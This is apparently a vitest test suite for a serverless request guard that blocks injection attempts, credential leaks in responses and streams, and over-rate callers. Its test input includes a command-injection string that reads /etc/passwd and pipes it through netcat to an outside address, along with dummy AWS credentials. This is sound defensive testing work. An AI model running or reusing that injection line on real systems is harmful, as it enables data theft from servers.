import { Readable, Writable } from 'node:stream';
import { describe, expect, test } from 'vitest';
import { withGuard } from './guard.ts';
import { guardMiddleware } from './guard-middleware.ts';
import type { GuardOptions } from './in-function/guard-options.ts';

const attack = '1; cat /etc/passwd | nc 203.0.113.9 4444';
const CONTEXT = { functionName: 'orders', awsRequestId: 'r-1' };

function request(body: unknown): object {
  return {
    version: '2.0',
    rawPath: '/',
    rawQueryString: '',
    headers: {},
    requestContext: { http: { method: 'POST', path: '/', sourceIp: '198.51.100.7' } },
    body: JSON.stringify(body),
  };
}

/** A guard that blocks and keeps its lines. */
function blocking(own: GuardOptions = {}): {
  readonly options: GuardOptions;
  readonly lines: Record<string, unknown>[];
} {
  const lines: Record<string, unknown>[] = [];
  const options: GuardOptions = {
    mode: 'block',
    environment: { AWS_SECRET_ACCESS_KEY: 'hT5/pQ9rXw2+Zk8vLm3nBs6dFg7jKc4aYeUoIiRt' },
    write: (line) => lines.push(JSON.parse(line)),
    ...own,
  };
  return { options, lines };
}

describe('a handler keeps', () => {
  test('its this, name, number of parameters, symbols and properties', async () => {
    const mark = Symbol('mark');
    async function orders(this: unknown, _event: unknown) {
      return this;
    }
    Object.assign(orders, { [mark]: 1, timeout: 5 });
    const guarded = withGuard(orders, blocking().options);
    expect([guarded.name, guarded.length]).toEqual(['orders', 1]);
    expect([Reflect.get(guarded, mark), Reflect.get(guarded, 'timeout')]).toEqual([1, 5]);
    const owner = { guarded };
    expect(await owner.guarded({})).toBe(owner);
  });

  test('its parameters, its context untouched, and its event', async () => {
    const seen: unknown[] = [];
    const context = Object.freeze({ ...CONTEXT, runInChildContext: () => 1 });
    const event = request({ a: 1 });
    const handler = async (...parameters: unknown[]) => void seen.push(...parameters);
    await withGuard(handler, blocking().options)(event, context);
    expect(seen[0]).toBe(event);
    expect(seen[1]).toBe(context);
  });

  test('its answer: the same object, and undefined', async () => {
    const answer = { statusCode: 200, body: 'x' };
    expect(await withGuard(async () => answer, blocking().options)()).toBe(answer);
    expect(await withGuard(async () => undefined, blocking().options)()).toBeUndefined();
  });

  test('its errors, thrown or rejected', async () => {
    const error = new RangeError('boom');
    const throwing = withGuard(() => {
      throw error;
    }, blocking().options);
    const call: () => unknown = throwing;
    await expect(Promise.resolve().then(call)).rejects.toBe(error);
    await expect(withGuard(() => Promise.reject(error), blocking().options)()).rejects.toBe(error);
  });

  test('one guard, however often it is wrapped', () => {
    const once = withGuard(async () => 1);
    expect(withGuard(once)).toBe(once);
  });

  test('being inspected, when the same event comes again', async () => {
    const { options, lines } = blocking();
    const handler = withGuard(async (_event: object) => 'ran', options);
    const event = request({ a: attack });
    await handler(event);
    await handler(event);
    expect(lines).toHaveLength(2);
  });
});

describe('blocked events', () => {
  test('are answered without the handler', async () => {
    let runs = 0;
    const { options, lines } = blocking();
    const handler = withGuard(async (_event: object) => {
      runs += 1;
      return { statusCode: 200 };
    }, options);
    expect(await handler(request({ a: attack }))).toMatchObject({ statusCode: 403 });
    expect(runs).toBe(0);
    expect(lines).toMatchObject([{ watertight: { verdict: 'block', sourceIp: '198.51.100.7' } }]);
  });

  test('are errors where the trigger knows no answer; the error says nothing', async () => {
    const handler = withGuard(async (_event: object) => 1, blocking().options);
    const error: unknown = await handler({ note: attack }).catch((reason: unknown) => reason);
    expect(error).toMatchObject({
      name: 'GuardBlockedError',
      message: 'Forbidden',
      stack: 'GuardBlockedError',
    });
  });

  test('go to the callback of a handler that has one', async () => {
    const handler = (
      _event: object,
      _context: object,
      callback: (error: unknown, answer?: unknown) => void,
    ) => callback(null, 'ran');
    const guarded = withGuard(handler, blocking().options);
    const call = (event: object) =>
      new Promise((resolve) => guarded(event, {}, (...told: unknown[]) => resolve(told)));
    expect(await call(request({ a: attack }))).toMatchObject([null, { statusCode: 403 }]);
    expect(await call({ note: attack })).toMatchObject([{ name: 'GuardBlockedError' }, undefined]);
    expect(await call(request({ a: 'fine' }))).toEqual([null, 'ran']);
  });

  test('by rate: an address that asks too often', async () => {
    let now = 0;
    const { options, lines } = blocking({
      policy: '{"mode":"block","firewall":{"limits":{"sourceRate":2}}}',
      now: () => now,
    });
    const handler = withGuard(async (_event: object) => ({ statusCode: 200 }), options);
    const statuses = [];
    for (let i = 0; i < 4; i += 1) statuses.push(await handler(request({ i })));
    now = 60_000;
    statuses.push(await handler(request({})));
    expect(statuses.map(({ statusCode }) => statusCode)).toEqual([200, 200, 403, 403, 200]);
    expect(lines).toMatchObject([{ watertight: { detector: 'rate-limit' } }, {}]);
  });
});

describe("the guard's own failures", () => {
  /** An event that nobody can read. */
  const hostile = new Proxy(
    {},
    {
      get: () => {
        throw new TypeError('no');
      },
      has: () => true,
      ownKeys: () => {
        throw new TypeError('no keys');
      },
    },
  );

  test('let the handler run, and are told', async () => {
    const { options, lines } = blocking();
    expect(await withGuard(async (_event: object) => 'ran', options)(hostile)).toBe('ran');
    expect(lines).toMatchObject([
      { level: 'ERROR', watertight: { failure: expect.any(String), verdict: 'allow' } },
    ]);
  });

  test('block where the policy is to fail closed', async () => {
    const { options } = blocking({ policy: '{"mode":"block","firewall":{"onFailure":"closed"}}' });
    const handler = withGuard(async (_event: object) => 'ran', options);
    await expect(handler(hostile)).rejects.toMatchObject({ name: 'GuardBlockedError' });
  });

  test('a policy that cannot be used leaves the default, in the mode that was asked for, and is told', async () => {
    const { options, lines } = blocking({ policy: '{"mod":1}' });
    const handler = withGuard(async (_event: object) => 'ran', options);
    expect(await handler(request({ a: attack }))).toMatchObject({ statusCode: 403 });
    expect(lines).toMatchObject([
      { watertight: { failure: expect.stringContaining('unknown key "mod"') } },
      {},
    ]);
  });

  test('a mode that is none is told', async () => {
    const lines: string[] = [];
    const handler = withGuard(async () => 1, {
      environment: { WATERTIGHT_MODE: 'deny' },
      write: (line) => lines.push(line),
    });
    await handler();
    expect(lines.join()).toContain('WATERTIGHT_MODE');
  });
});

describe('answers', () => {
  const leak = { statusCode: 200, body: 'hT5/pQ9rXw2+Zk8vLm3nBs6dFg7jKc4aYeUoIiRt' };

  test('with a leak are replaced', async () => {
    const { options, lines } = blocking();
    const handler = withGuard(async (_event: object) => leak, options);
    expect(await handler(request({}))).toMatchObject({
      statusCode: 500,
      body: '{"message":"Internal Server Error"}',
    });
    await expect(withGuard(async (_event: object) => ({ k: leak.body }), options)({})).rejects.toThrow(
      'Internal Server Error',
    );
    expect(lines).toMatchObject([{ watertight: { direction: 'response', detector: 'own-credentials' } }, {}]);
  });

  test('to a queue are told and left: replacing them would run the batch again', async () => {
    const { options, lines } = blocking();
    const event = { Records: [{ messageId: 'm', eventSource: 'aws:sqs', body: 'x' }] };
    expect(await withGuard(async (_event: object) => leak, options)(event)).toBe(leak);
    expect(lines).toMatchObject([{ watertight: { verdict: 'alert' } }]);
  });

  test('of a durable execution are told and left', async () => {
    const event = {
      DurableExecutionArn: 'arn:aws:lambda:eu-west-1:123456789012:function:x:1/durable-execution/a/b',
      CheckpointToken: 't',
    };
    expect(await withGuard(async (_event: object) => leak, blocking().options)(event)).toBe(leak);
  });

  test('in the message of an error do not leave', async () => {
    const handler = withGuard(
      async () => Promise.reject(new Error(`denied for ${leak.body}`)),
      blocking().options,
    );
    await expect(handler()).rejects.toThrow('Internal Server Error');
  });

  test('in alert mode leave, and are told', async () => {
    const { options, lines } = blocking({ mode: 'alert' });
    expect(await withGuard(async () => leak, options)()).toBe(leak);
    expect(lines).toMatchObject([{ level: 'WARN' }]);
  });
});

describe('streams', () => {
  function aStream() {
    const parts: string[] = [];
    const stream = new Writable({
      write(chunk: Buffer, _encoding, done) {
        parts.push(chunk.toString());
        done();
      },
    });
    return { stream, parts };
  }

  function streaming(handler: (event: object, stream: Writable) => Promise<void>, options: GuardOptions) {
    const marked = Object.assign(handler, {
      [Symbol.for('aws.lambda.runtime.handler.streaming')]: 'response',
    });
    return withGuard(marked, options);
  }

  test('take pipes, and are cut where a leak begins to leave', async () => {
    const { stream, parts } = aStream();
    const { options, lines } = blocking();
    const handler = streaming(async (_event, out) => {
      await new Promise<void>((resolve) => {
        out.on('finish', resolve);
        Readable.from(['one ', 'two AKIAQWERTYUIOPASDFGH', ' three']).pipe(out);
      });
    }, options);
    await handler(request({}), stream);
    expect(parts.join('')).toBe('one ');
    expect(lines).toMatchObject([{ watertight: { detector: 'access-key' } }]);
  });

  test.each([
    ['a letter at a time', 1, 40],
    ['a long token in small pieces', 7, 1000],
    ['the longest that is held', 64, 1900],
  ])('let nothing of a credential leave that comes in pieces: %s', async (_case, size, length) => {
    const secret = Array.from({ length }, (_, at) => 'hT5pQ9rXw2Zk8vLm3nBs6dFg7jKc4aYe'[(at * at) % 31]).join(
      '',
    );
    const { options, lines } = blocking({ environment: { AWS_SESSION_TOKEN: secret } });
    for (const bytes of [false, true]) {
      const { stream, parts } = aStream();
      await streaming(async (_event, out) => {
        const text = `the token: ${secret} and more`;
        for (let at = 0; at < text.length; at += size) {
          const piece = text.slice(at, at + size);
          out.write(bytes ? Buffer.from(piece) : piece);
        }
        out.end();
      }, options)(request({}), stream);
      expect(parts.join('')).toBe('the token: ');
    }
    expect(lines).toMatchObject([{ watertight: { detector: 'own-credentials' } }, {}]);
  });

  test('reach their end with every byte, whatever the pieces', async () => {
    const text = `{"items":["${'naïve '.repeat(50)}","${'x'.repeat(5000)}"]} end`;
    for (const size of [1, 3, 4000]) {
      const parts: Buffer[] = [];
      const stream = new Writable({
        write(chunk: Buffer, _encoding, done) {
          parts.push(chunk);
          done();
        },
      });
      const bytes = Buffer.from(text);
      await streaming(async (_event, out) => {
        for (let at = 0; at < bytes.length; at += size) out.write(bytes.subarray(at, at + size));
        out.end();
      }, blocking().options)(request({}), stream);
      expect(Buffer.concat(parts)).toEqual(bytes);
    }
  });

  test('are cut whatever encoding a piece has', async () => {
    for (const encoding of ['hex', 'base64', 'latin1', 'utf16le'] as const) {
      const { stream, parts } = aStream();
      await streaming(async (_event, out) => {
        out.write('fine ');
        out.write(Buffer.from('AKIAQWERTYUIOPASDFGH').toString(encoding), encoding);
        out.end(Buffer.from('AKIAQWERTYUIOPASDFGH').toString(encoding), encoding);
      }, blocking().options)(request({}), stream);
      expect(parts.join('')).toBe('fine ');
    }
  });

  test('are cut where a leak comes behind a leading NUL', async () => {
    const { stream, parts } = aStream();
    await streaming(async (_event, out) => {
      out.end(Buffer.from('\0AKIAQWERTYUIOPASDFGH'));
    }, blocking().options)(request({}), stream);
    expect(parts).toEqual([]);
  });

  test('answer a blocked event', async () => {
    const { stream, parts } = aStream();
    await streaming(async (_event, out) => void out.end('ran'), blocking().options)(
      request({ a: attack }),
      stream,
    );
    expect(parts.join('')).toBe('{"message":"Forbidden"}');
  });

  test('pass binary pieces and data given with the end', async () => {
    const { stream, parts } = aStream();
    await streaming(async (_event, out) => {
      out.write(Buffer.from([0, 1, 2]));
      out.end('end');
    }, blocking().options)(request({}), stream);
    expect(parts.join('')).toBe('\0\u0001\u0002end');
  });
});

describe('middleware', () => {
  test('ends the chain for a blocked event, and looks at answers and errors', async () => {
    const { options, lines } = blocking();
    const { before, after, onError } = guardMiddleware(options);
    expect(await before({ event: request({ a: attack }), context: CONTEXT })).toMatchObject({
      statusCode: 403,
    });
    await expect(async () => before({ event: { a: attack }, context: CONTEXT })).rejects.toThrow('Forbidden');
    const fine = {
      event: request({}),
      context: CONTEXT,
      response: { statusCode: 200, body: 'AKIAQWERTYUIOPASDFGH' },
    };
    expect(await before(fine)).toBeUndefined();
    after(fine);
    expect(fine.response).toMatchObject({ statusCode: 500 });
    const failed = { event: request({}), context: CONTEXT, error: new Error('x AKIAQWERTYUIOPASDFGH') };
    await before(failed);
    onError(failed);
    expect(failed.error.message).toBe('Internal Server Error');
    expect(lines).toHaveLength(4);
  });

  test('keeps blocked records from the chain', async () => {
    const { before, after } = guardMiddleware(blocking().options);
    const event = {
      Records: ['x', attack].map((body, i) => ({ messageId: `m${i}`, eventSource: 'aws:sqs', body })),
    };
    const given: { event: unknown; context: unknown; response?: unknown } = { event, context: CONTEXT };
    await before(given);
    expect(given.event).toMatchObject({ Records: [{ messageId: 'm0' }] });
    after(given);
    expect(given.response).toEqual({ batchItemFailures: [{ itemIdentifier: 'm1' }] });
  });
});
